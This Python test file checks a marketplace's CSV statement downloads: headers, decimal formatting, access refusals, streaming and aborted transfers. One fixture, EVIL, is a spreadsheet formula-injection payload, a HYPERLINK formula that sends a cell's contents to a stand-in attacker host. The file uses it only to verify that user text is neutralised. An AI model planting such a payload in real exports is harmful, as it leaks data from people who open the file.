"""Statements as files: streamed row by row, safe in a spreadsheet, refused like commands."""

import asyncio
import contextlib
import tracemalloc
from datetime import datetime

import aiohttp
import pytest

from domain.ledger.owner_view import OwnedAccounts
from handlers.csv_cells import format_cell
from handlers.statements import to_decimal
from server.http import downloads
from tests.support.job_in_progress import JobInProgress
from tests.support.journal_samples import download, insert_transactions, recent_period

ROWS = 2_500
JANUARY = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats" and more'


async def test_a_statement_as_a_file(completed_work):
    """Guard: the headers in `downloads.send`, `to_decimal`, and the running balance."""
    work = completed_work
    await work.withdraw(20_000)
    status, headers, rows = await download(
        work.contractor, "wallet/statement.csv", **recent_period()
    )
    assert (status, headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert headers["Cache-Control"] == "no-store"
    assert headers["Content-Disposition"].startswith('attachment; filename="statement-')
    shown = [[row[name] for name in ("kind", "amount", "moved", "balance_minor")] for row in rows]
    assert shown == [
        ["completed", "700.00", "0.00", "70000"],
        ["transfer_settled", "0.00", "700.00", "70000"],
        ["withdrawn", "0.00", "200.00", "70000"],
        ["paid_out", "-200.00", "0.00", "50000"],
    ]
    assert [row["offer_id"] for row in rows] == [work.offer["id"]] * 2 + [""] * 2
    assert [row["job"] for row in rows] == ["Paint the fence"] * 2 + [""] * 2
    assert rows[2]["withdrawal_id"] == rows[3]["withdrawal_id"] != ""
    assert [datetime.fromisoformat(row["at"]) for row in rows] == sorted(
        datetime.fromisoformat(row["at"]) for row in rows
    )


async def test_user_text_is_no_formula(market, server):
    """Guard: `csv_cells.defused` in `format_cell`, and the csv module's quoting."""
    customer, contractor = await market.customer(), await market.contractor()
    deal = JobInProgress(market, server)
    deal.job = await market.job(customer, title=EVIL)
    await market.application(contractor, deal.job)
    await market.accept(contractor, await market.offer(customer, contractor, deal.job))
    _, _, rows = await download(customer, "wallet/statement.csv", **recent_period())
    assert [row["job"] for row in rows] == ["'" + EVIL]
    assert rows[0]["amount"] == "-1000.00"


INVISIBLE = (
    "",
    " ",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u200f",
    "\u202e",
    "\u2060\u3000",
    "\u3164",
    "\ufe0f",
)
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207a\u208b\u2212"


@pytest.mark.parametrize("sign", SIGNS)
def test_no_cell_is_a_formula(sign):
    """Guard: `csv_cells.defused`, for separators of every locale and after what is invisible."""
    for hidden in INVISIBLE:
        formula = f"{hidden}{sign}1"
        assert format_cell(formula) == f"'{formula}"
        for separator in ",;|\t\r\n\u2028\uff1b\u061b\u060c":
            text = f"Fence{separator}{formula}"
            assert format_cell(text) == f"Fence{separator}'{formula}"
            assert f"{separator}'{formula}" in format_cell(f"{separator}{formula}")
        for blank in "\t\r\n":
            assert format_cell(f"{blank}{formula}") == f"'{blank}'{formula}"


def test_other_cells_stay() -> None:
    """Guard: `csv_cells.format_cell`; numbers, which begin with a minus, stay numbers."""
    for text in (
        "Fence",
        "a=1",
        "1-1",
        "'=1",
        "",
        " ",
        "a, b; c",
        "Jos\u00e9 \u2013 roof",
        "\u0661",
    ):
        assert format_cell(text) == text
    assert (format_cell(-5), format_cell(to_decimal(-5, "USD"))) == ("-5", "-0.05")


@pytest.mark.parametrize(
    ("amount", "currency", "text"),
    [
        (70_000, "USD", "700.00"),
        (-123_456, "EUR", "-1234.56"),
        (0, "USD", "0.00"),
        (500, "JPY", "500"),
        (0, "JPY", "0"),
        (1_250, "KWD", "1.250"),
        (1, "KWD", "0.001"),
    ],
)
def test_decimals(amount, currency, text):
    """Guard: the exponent in `to_decimal`; floats would lose cents of large sums."""
    assert format_cell(to_decimal(amount, currency)) == text


async def test_files_are_refused_like_commands(market):
    """Guard: `_caller` and `admit` before the first byte: every refusal is a problem."""
    customer, contractor = await market.customer(), await market.contractor()
    span = recent_period()
    for party, path, params, code, status in (
        (market.anonymous_client(), "wallet/statement.csv", span, "unauthenticated", 401),
        (market.anonymous_client(), "admin/commissions.csv", span, "unauthenticated", 401),
        (customer, "admin/commissions.csv", span, "forbidden", 403),
        (contractor, "admin/commissions.csv", span, "forbidden", 403),
        (customer, "wallet/statement.csv", {}, "invalid", 422),
        (customer, "wallet/statement.csv", {**span, "user_id": contractor.id}, "invalid", 422),
        (customer, "wallet/statement.csv", {**span, "end": span["start"]}, "invalid", 422),
    ):
        found, headers, problem = await download(party, path, **params)
        assert (found, problem["code"]) == (status, code), (path, params)
        assert headers["Content-Type"].startswith("application/problem+json")


@pytest.mark.books_differ("the journal is made up")
async def test_an_incomplete_file_does_not_look_complete(market, server, monkeypatch):
    """Guard: `_abort` in `downloads.send`; a normal end would mean a complete file. A
    failure before the first piece is a problem+json: `anext` in `Download.open`."""
    party = await market.contractor()
    await insert_transactions(server.store, 1_000, user=party.id)
    real, broken_at = OwnedAccounts.effect, 700

    def broken(side, transaction):
        if transaction.fact == f"{party.id}:{broken_at}":
            raise RuntimeError("the disk is on fire")
        return real(side, transaction)

    monkeypatch.setattr(OwnedAccounts, "effect", broken)
    with pytest.raises(aiohttp.ClientPayloadError):
        await download(party, "wallet/statement.csv", **JANUARY)
    broken_at = 0
    status, _, problem = await download(party, "wallet/statement.csv", **JANUARY)
    assert (status, problem["code"]) == (500, "internal")


@pytest.mark.books_differ("the journal is made up")
async def test_a_client_that_does_not_read_is_disconnected(market, server, monkeypatch):
    """Guard: `asyncio.timeout` in `downloads._write`; without it a stalled client holds a cursor of
    the database for as long as it likes."""
    monkeypatch.setattr(downloads, "WRITE_SECONDS", 0.5)
    # More than the buffers of the system take.
    monkeypatch.setattr("handlers.statements.encode_rows", lambda rows: bytes(2_000_000))
    party = await market.contractor()
    await insert_transactions(server.store, 2_000, user=party.id)
    host, port = party.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port), limit=1024)
    span = "start=2026-01-01T00:00:00Z&end=2026-02-01T00:00:00Z"
    writer.write(
        f"GET /api/wallet/statement.csv?{span} HTTP/1.1\r\nHost: {host}\r\n"
        f"Authorization: Bearer {party.token}\r\n\r\n".encode()
    )
    assert b"200 OK" in await reader.readline()
    cut = asyncio.Event()
    real = downloads._abort
    monkeypatch.setattr(downloads, "_abort", lambda request: (real(request), cut.set()))
    async with asyncio.timeout(20):
        await cut.wait()
        read = b""
        with contextlib.suppress(ConnectionError):
            while piece := await reader.read(1 << 20):
                read = piece
    writer.close()
    assert not read.endswith(b"0\r\n\r\n")


@pytest.mark.timeout(300)
@pytest.mark.books_differ("the journal is made up")
async def test_a_long_statement_is_streamed_in_constant_memory(market, server):
    """Guard: `uow.each`, and TITLES_AT_ONCE in `statements.entries`; a list of all rows takes
    twice as much. Without `response.write` of each piece the length would be known before."""
    party = await market.contractor()
    await insert_transactions(server.store, ROWS, user=party.id)
    headers = {"Authorization": f"Bearer {party.token}"}
    patient = aiohttp.ClientTimeout(total=250)
    tracemalloc.start()
    try:
        url = f"{party.url}/api/wallet/statement.csv"
        async with party.web.get(url, params=JANUARY, headers=headers, timeout=patient) as response:
            assert response.headers["Transfer-Encoding"] == "chunked"
            lines, last = 0, b""
            async for piece in response.content.iter_any():
                lines += piece.count(b"\r\n")
                last = piece
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert lines == ROWS + 1
    assert peak < 2_000_000
    assert last.endswith(b",0\r\n")  # the balance: all that came in was paid out
